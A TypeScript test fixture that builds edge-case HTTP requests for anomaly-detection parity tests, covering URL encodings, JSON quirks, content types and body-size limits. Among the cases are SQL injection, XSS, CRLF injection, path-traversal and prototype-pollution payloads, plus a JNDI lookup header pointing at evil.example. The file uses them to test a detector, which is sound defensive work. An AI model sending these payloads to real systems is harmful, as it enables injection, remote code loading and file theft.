// Hand-written requests for the anomaly parity tests: encodings, JSON bodies, odd content types,
// empty values, non-ASCII, limits (the 16 KiB body rule, 4096-unit raw body, 256 parameters).
import type { HttpInput } from '../../control-plane/engine/request.js';

export interface EdgeCase {
  readonly name: string;
  readonly workload: string;
  readonly http: HttpInput;
}

const get = (path: string | null, headers: Record<string, string> = {}): HttpInput => ({ method: 'GET', path, host: 'search', scheme: 'http', headers: { 'user-agent': 'okhttp/4.12.0', ...headers }, body: '' });
const post = (path: string, contentType: string | null, body: string, headers: Record<string, string> = {}): HttpInput => ({
  method: 'POST', path, host: 'orders', scheme: 'http', body,
  headers: { 'user-agent': 'shop-mobile/3.4.1 (Android 14)', ...(contentType === null ? {} : { 'content-type': contentType }), ...headers },
});

const PATHS: [string, string][] = [
  ['double-encoded quote', '/search?q=%2527%2520OR%25201%253D1--&lang=en'],
  ['triple-encoded script', '/search?q=%25253Cscript%25253E'],
  ['%u escapes', '/search?q=%u003cscript%u003e'],
  ['malformed escapes', '/search?q=%zz%4&x=%'],
  ['escape at the very end', '/search?q=abc%41'],
  ['plus and spaces', '/search?q=a+b++c%20%20d%09e'],
  ['SQL comment', '/search?q=1/**/UNION/**/SELECT/**/1'],
  ['encoded SQL comment', '/search?q=1%2F**%2FUNION%2F**%2FSELECT%2F**%2F1'],
  ['overlapping comments', '/search?q=/**/**/'],
  ['NUL', '/search?q=%00'],
  ['CR LF', '/search?q=a%0d%0aSet-Cookie:%20x%3D1'],
  ['fragment (unparsable route)', '/search#frag?q=1'],
  ['encoded slash (unparsable route)', '/a%2Fb?q=1'],
  ['dot segments', '/a/../search/./x//y?q=1'],
  ['uuid', '/api/users/550e8400-E29B-41d4-a716-446655440000/orders?limit=5'],
  ['hex id', '/api/users/deadbeefcafe1234/orders'],
  ['token with a digit', '/files/abcdefghijklmnopqrs1'],
  ['token without a digit', '/files/abcdefghijklmnopqrstu'],
  ['short hex', '/files/deadbeef'],
  ['root', '/'],
  ['empty query', '/search?'],
  ['empty pairs', '/search?&&=&a&=x&b=c=d&'],
  ['percent-escape count', '/search?a=%41%4%%42%zz%43%4G'],
  ['raw non-ASCII', '/search?q=café naïve 日本語 😀'],
  ['encoded non-ASCII', '/search?q=caf%C3%A9%20%F0%9F%98%80'],
  ['invalid encoded UTF-8', '/search?q=%C3%28%ED%A0%80%FF'],
  ['long value', `/search?q=${'x9'.repeat(500)}`],
  ['many params', `/search?${Array.from({ length: 300 }, (_, i) => `p${i}=${i}`).join('&')}`],
  ['specials', `/search?q=${encodeURIComponent('\'"<>;()|&$`{}\\*!=')}`],
];

const JSONS: [string, string][] = [
  ['nested', '{"a":{"b":[1,2,{"c":"x"}]},"d":null,"e":true,"f":1.50,"g":1e21,"h":-0,"i":0.0000001,"j":false}'],
  ['duplicate keys', '{"a":1,"b":2,"a":"<script>alert(1)</script>"}'],
  ['array-index keys', '{"b":1,"2":"x","1":"y","01":"z","4294967295":"big","4294967294":"max","-1":"neg"}'],
  ['escapes', '{"k\\u00e9y":"v\\u00e9\\n\\t\\"\\\\\\/","s":"\\ud83d\\ude00","lone":"\\ud800x","low":"\\udc00"}'],
  ['invalid', '{"a":1,}'],
  ['invalid escape', '{"a":"\\x"}'],
  ['control character in a string', '{"a":"x\ty"}'],
  ['top-level string', '"UNION SELECT 1"'],
  ['top-level number', '42.50'],
  ['top-level true', 'true'],
  ['top-level null', 'null'],
  ['empty object', '{}'],
  ['empty array', '[]'],
  ['deep nesting', `${'['.repeat(1000)}"deep"${']'.repeat(1000)}`],
  ['more than 256 leaves', JSON.stringify({ a: Array.from({ length: 300 }, (_, i) => i), b: 'after' })],
  ['numbers', '[123456789012345678901,1.7976931348623157e308,5e-324,1e400,-1e400,0.1e1,1E-7,100e-2,2.5e-7,123456789.123456789,0.30000000000000004,9007199254740993]'],
  ['empty keys', '{"":{"":1,"x":2},"y":{"":3}}'],
  ['whitespace', ' \t\n {"a" : "b" } \r\n'],
  ['trailing garbage', '{"a":1} x'],
  ['bom', '\ufeff{"a":1}'],
  ['non-ASCII values', '{"name":"Zoë","city":"東京","emoji":"😀","mixed":"a\u00e9\u4e2d😀"}'],
  ['proto key', '{"__proto__":{"x":1},"constructor":"y"}'],
];

const BODIES: [string, string | null, string][] = [
  ['uppercase JSON type (not json)', 'application/JSON', '{"a":"b"}'],
  ['text/json', 'text/json', '{"q":"<svg onload=alert(1)>"}'],
  ['json suffix', 'application/vnd.api+json; charset=utf-8', '{"data":{"type":"x","id":"1"}}'],
  ['form with charset', 'application/x-www-form-urlencoded; charset=UTF-8', 'a=1&b=%3Cscript%3E&c=&&d&e=%2B%2B'],
  ['uppercase form type (raw)', 'APPLICATION/X-WWW-FORM-URLENCODED', 'a=1&b=2'],
  ['multipart (raw)', 'multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n../../etc/passwd\r\n--x--'],
  ['no content type', null, 'just some text with a ; and a | pipe'],
  ['form with 300 pairs', 'application/x-www-form-urlencoded', Array.from({ length: 300 }, (_, i) => `k${i}=v${i}`).join('&')],
  ['raw body over 4096 units', 'text/plain', 'a1!'.repeat(3000)],
  ['attack after 16 KiB', 'text/plain', `${'a'.repeat(16384)}<script>`],
  ['attack before 16 KiB', 'text/plain', `${'a'.repeat(16370)}<script>`],
  ['attack split at 16 KiB', 'text/plain', `${'a'.repeat(16380)}<script>`],
  ['emoji split at 16 KiB', 'text/plain', `${'a'.repeat(16383)}😀<script>`],
  ['non-ASCII body', 'text/plain; charset=utf-8', 'café 日本 😀 '.repeat(50)],
  ['large JSON with an attack deep inside', 'application/json', JSON.stringify({ items: Array.from({ length: 50 }, (_, i) => ({ id: i, note: i === 42 ? "' OR '1'='1" : 'ok' })) })],
];

const HEADERS: [string, Record<string, string>][] = [
  ['empty header value', { 'x-empty': '' }],
  ['non-ASCII header', { 'x-name': 'Zoë 東京', referer: 'https://shop.example/caf%C3%A9' }],
  ['attack in a header', { 'x-api-version': '${jndi:ldap://evil.example/a}' }],
  ['many headers', Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`x-h${i}`, `v${i}`]))],
  ['upper-case attack in cookie', { cookie: 'session=1; x=<SCRIPT>' }],
];

export function edgeCases(): EdgeCase[] {
  const out: EdgeCase[] = [];
  for (const [name, path] of PATHS) out.push({ name: `path: ${name}`, workload: 'shop/search', http: get(path) });
  for (const [name, body] of JSONS) out.push({ name: `json: ${name}`, workload: 'shop/orders', http: post('/api/orders', 'application/json', body) });
  for (const [name, type, body] of BODIES) out.push({ name: `body: ${name}`, workload: 'shop/orders', http: post('/api/orders', type, body) });
  for (const [name, headers] of HEADERS) out.push({ name: `headers: ${name}`, workload: 'shop/search', http: get('/search?q=shoes&lang=en', headers) });
  out.push({ name: 'no :path', workload: 'shop/search', http: get(null) });
  out.push({ name: 'unknown route', workload: 'shop/catalog', http: get('/never/seen/before') });
  out.push({ name: 'unknown method', workload: 'shop/catalog', http: { ...get('/api/products?category=shoes'), method: 'PATCH' } });
  return out;
}
